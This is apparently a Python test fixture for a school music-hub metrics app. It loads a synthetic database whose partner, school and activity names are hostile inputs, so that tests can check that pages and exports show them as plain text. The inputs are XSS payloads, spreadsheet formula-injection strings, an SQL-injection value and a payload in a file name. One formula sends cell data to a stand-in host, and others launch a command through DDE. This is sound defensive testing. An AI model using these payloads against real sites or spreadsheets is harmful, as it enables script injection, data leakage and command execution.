"""A hub database whose uploaded text is hostile: names like HTML, script, markdown, formulas
and SQL, for the tests that every page and export shows them as plain text (synthetic)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hubmetrics import store
from hubmetrics.ingest import load_file

# Each sets window.__xss if it ever runs in the browser.
HTML_NAMES = {
    "XSS-IMG": "<img src=x onerror=\"window.__xss='img'\">",
    "XSS-SCRIPT": "<script>window.__xss='script'</script>",
    "XSS-SVG": "<svg onload=window.__xss='svg'>",
    "XSS-MD": "[click me](javascript:window.__xss='md') **bold** $x$ :red[red] :tada:",
}
# What a spreadsheet would run as a formula, if it were written as one.
FORMULA_NAMES = {
    "F-EQ": '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "F-PLUS": "+cmd|' /C calc'!A0",
    "F-MINUS": "-2+3+cmd|' /C calc'!A0",
    "F-AT": "@SUM(1+1)*cmd|' /C calc'!A0",
}
NAMES = {**HTML_NAMES, **FORMULA_NAMES}
HOSTILE_LA = "x' OR 1=1 --"
AS_OF = "2026-02-15"  # spring term 2025/26: XSS-IMG and XSS-MD sent only autumn returns
NO_SPRING_RETURN = ("XSS-IMG", "XSS-MD")


def _csv(rows: list[list[object]]) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue().encode()


def build_hostile(path: Path) -> None:
    """Partners, schools (one in a local authority named like SQL) and activities, all
    loaded through the normal ingestion, as the hub's own uploads would be."""
    con = store.connect(path)
    try:
        partners = [["partner_id", "name", "partner_type", "website"]]
        partners.append(["NMPAT", "Northamptonshire lead (fictional)", "lead", ""])
        partners += [
            [pid, name, "community", "javascript:window.__xss='href'"]
            for pid, name in NAMES.items()
        ]
        schools = [
            ["urn", "name", "phase", "local_authority", "district", "state_funded"],
            [900001, HTML_NAMES["XSS-IMG"], "primary", "North Northamptonshire", "Corby", "yes"],
            [900002, FORMULA_NAMES["F-EQ"], "secondary", HOSTILE_LA, "<b>Kettering</b>", "yes"],
            [900003, "Plain Primary (fictional)", "primary", "Rutland", "Rutland", "yes"],
        ]
        activities = [
            [
                "partner_id",
                "activity_id",
                "activity_name",
                "activity_type",
                "start_date",
                "school_urn",
                "age_band",
                "participants",
            ]
        ]
        for n, (pid, name) in enumerate(NAMES.items()):
            urn = (900001, 900002, 900003)[n % 3]
            activities.append([pid, f"{pid}-A", name, "wcet", "2025-10-06", urn, "ks2", 20 + n])
            if pid not in NO_SPRING_RETURN:
                activities.append([pid, f"{pid}-B", name, "choir", "2026-01-12", "", "ks3", 9])
        for kind, rows, file_name in (
            ("partners", partners, "partners.csv"),
            ("schools", schools, "schools.csv"),
            ("activities", activities, f"{HTML_NAMES['XSS-SVG']}.csv"),
        ):
            result = load_file(con, kind, _csv(rows), file_name=file_name)
            assert result.accepted, [p.describe() for p in result.errors]
        with store.write_transaction(con) as cur:
            cur.execute("INSERT INTO hub_setting VALUES ('as_of', ?)", [AS_OF])
    finally:
        con.close()
